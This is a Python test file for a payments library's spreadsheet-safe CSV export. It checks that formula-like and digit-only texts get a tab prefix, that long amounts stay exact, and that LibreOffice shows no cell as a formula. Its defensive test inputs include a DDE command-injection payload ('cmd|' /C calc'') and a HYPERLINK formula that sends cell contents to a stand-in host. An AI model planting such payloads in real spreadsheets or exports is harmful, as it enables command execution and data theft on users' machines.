"""CSV for people: a spreadsheet shows each text and each digit, and runs nothing."""

from __future__ import annotations

import csv
import subprocess
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st

from payments_async.drain import CSV, DrainError
from payments_async.drain.rows import plain
from payments_async.drain.sinks.spreadsheet import main_unit, marked, number, unmarked
from tests.drain.sinks.targets import Kind, content, opening, payment, payments, read_csv
from tests.properties import examples


def for_spreadsheets(path: Path) -> CSV:
    return CSV(path, spreadsheet=True)


KIND = Kind(for_spreadsheets, "out.csv", read_csv)


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "out.csv"


def records(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [*csv.DictReader(file)]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t", "\r", "\n"])
def test_a_text_that_could_be_a_formula_starts_with_a_tab(sign: str) -> None:
    assert marked(f"{sign}1+cmd|' /C calc'!A0") == f"\t{sign}1+cmd|' /C calc'!A0"


@pytest.mark.parametrize("text", ["007", "1E5", "2024-01-02", "10:30", "1,5", "50 %", "-", "+", "12345678901234567890"])
def test_a_text_of_digits_starts_with_a_tab(text: str) -> None:
    assert marked(text) == f"\t{text}"


@pytest.mark.parametrize("text", ["", "a=1", "pay_1", "2024-05-06T07:08:09.123456Z", "EUR/2", "{}", ".", "é"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert marked(text) == text


@examples()
@given(st.text())
def test_a_mark_is_taken_off_again(text: str) -> None:
    assert unmarked(marked(text)) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("999999999999999", "999999999999999"),
        ("1000000000000000", "\t1000000000000000"),
        ("-999999999999999", "-999999999999999"),
        ("-1000000000000000", "\t-1000000000000000"),
        ("1234567890123.45", "1234567890123.45"),
        ("12345678901234.56", "\t12345678901234.56"),
    ],
)
def test_numbers_of_more_than_15_digits_are_texts(text: str, cell: str) -> None:
    assert number(text) == cell


@pytest.mark.parametrize(
    ("amount", "asset", "text"),
    [
        (1050, "USD/2", "10.50"),
        (-5, "USD/2", "-0.05"),
        (7, "JPY/0", "7"),
        (7, "X/-2", "700"),
        (10**20, "ETH/18", "\t100.000000000000000000"),
        (7, "JPY", ""),
        (7, "not/an/asset", ""),
        (7, None, ""),
        (None, "USD/2", ""),
    ],
)
def test_an_amount_in_the_main_unit_is_exact_or_empty(amount: int | None, asset: str | None, text: str) -> None:
    assert main_unit(amount, asset) == text


async def test_the_file_says_that_it_is_utf_8_and_has_each_amount_twice(path: Path) -> None:
    await KIND.keep(path, [payment(1, amount=-1050, initial_amount=10**15, reference="=1+1", provider=None)])
    assert content(path.parent)["out.csv"] == (
        b"\xef\xbb\xbfid,reference,source_account_id,destination_account_id,connector_id,provider,type,status,"
        b"initial_amount,initial_amount_main_unit,amount,amount_main_unit,scheme,asset,created_at,raw,adjustments,metadata\r\n"
        b"\t00001,\t=1+1,,\xc3\xa9\xe2\x80\xa8,c,,PAY-IN,SUCCEEDED,"
        b"\t1000000000000000,\t10000000000000.00,-1050,-10.50,visa,EUR/2,2024-05-06T07:08:10.123456Z,"
        b'"{""n"":[1,null]}",[],"{""k"":""v""}"\r\n'
    )


async def test_an_export_goes_on_and_its_rows_are_told_by_what_they_were(path: Path) -> None:
    rows = [payment(number, id=f"={number}") for number in range(4)]
    await KIND.keep(path, rows[:2], finish=False)
    sink, seen = for_spreadsheets(path), list[tuple[str, ...]]()
    await sink.open(opening(sink, resume=True))
    await sink.recall(["id"], seen.append)
    await sink.aclose()
    assert seen == [("=0",), ("=1",)]
    assert [each["id"] for each in records(path)] == ["\t=0", "\t=1"]


@pytest.mark.parametrize("spreadsheet", [True, False])
async def test_a_file_does_not_go_on_in_the_other_form(path: Path, *, spreadsheet: bool) -> None:
    sink = CSV(path, spreadsheet=spreadsheet)
    await Kind(lambda _: sink, "", read_csv).keep(path, payments(1), finish=False)
    other = CSV(path, spreadsheet=not spreadsheet)
    with pytest.raises(DrainError, match="has other columns than the rows of this drain"):
        await other.open(opening(other, resume=True))
    await other.aclose()


HOSTILE = [
    payment(1, reference='=HYPERLINK("http://a.example/"&A1)', scheme="@SUM(1+1)", amount=-1050),
    payment(2, reference="+1+1", scheme="-2+3", amount=12345678901234567890),
    payment(3, reference="0012", scheme="1E5", amount=999999999999999, asset="JPY"),
    payment(4, reference="2024-01-02", scheme="\ttab", amount=0),
]


def _shown_by_libreoffice(path: Path, folder: Path) -> list[dict[str, tuple[str, str]]]:
    """Each cell's type and text, as LibreOffice shows them."""
    given = ["--headless", f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--infilter=CSV:44,34,UTF8"]
    subprocess.run(
        ["soffice", *given, "--convert-to", "fods", "--outdir", folder, path], check=True, capture_output=True
    )
    office, table, text = (
        f"{{urn:oasis:names:tc:opendocument:xmlns:{name}:1.0}}" for name in ("office", "table", "text")
    )
    rows = list[list[tuple[str, str]]]()
    for row in ET.parse(folder / f"{path.stem}.fods").iter(f"{table}table-row"):
        cells = list[tuple[str, str]]()
        for cell in row.iter(f"{table}table-cell"):
            assert f"{table}formula" not in cell.attrib
            for tab in cell.iter(f"{text}tab"):
                tab.text = "\t"
            shown = "\n".join("".join(part.itertext()) for part in cell.iter(f"{text}p"))
            kind = cell.get(f"{office}value-type", "")
            value = (kind, cell.get(f"{office}value", "") if kind == "float" else shown)
            cells += [value] * int(cell.get(f"{table}number-columns-repeated", "1"))
        rows.append(cells)
    names, *shown_rows = [row for row in rows if any(kind for kind, _ in row)]
    return [{name: cell for (_, name), cell in zip(names, row, strict=False)} for row in shown_rows]


@pytest.mark.spreadsheet
async def test_libreoffice_shows_texts_as_texts_and_amounts_to_the_last_digit(tmp_path: Path, path: Path) -> None:
    await KIND.keep(path, HOSTILE)
    shown = _shown_by_libreoffice(path, tmp_path)
    for row, cells in zip(HOSTILE, shown, strict=True):
        for name, value in plain(row).items():
            _assert_shown(name, value, cells)
    assert [cells["amount_main_unit"] for cells in shown] == [
        ("float", "-10.5"),
        ("string", "\t123456789012345678.90"),
        ("", ""),
        ("float", "0"),
    ]


def _assert_shown(name: str, value: Any, cells: dict[str, tuple[str, str]]) -> None:
    kind, text = cells[name]
    if isinstance(value, int) and kind == "float":
        assert int(text) == value
    elif isinstance(value, int):
        assert (kind, text) == ("string", f"\t{value}")
    elif isinstance(value, str):
        assert kind == ("string" if value else ""), name
        assert text == marked(value), name
    else:
        assert kind == "string", name
        assert text[0] in "[{", name
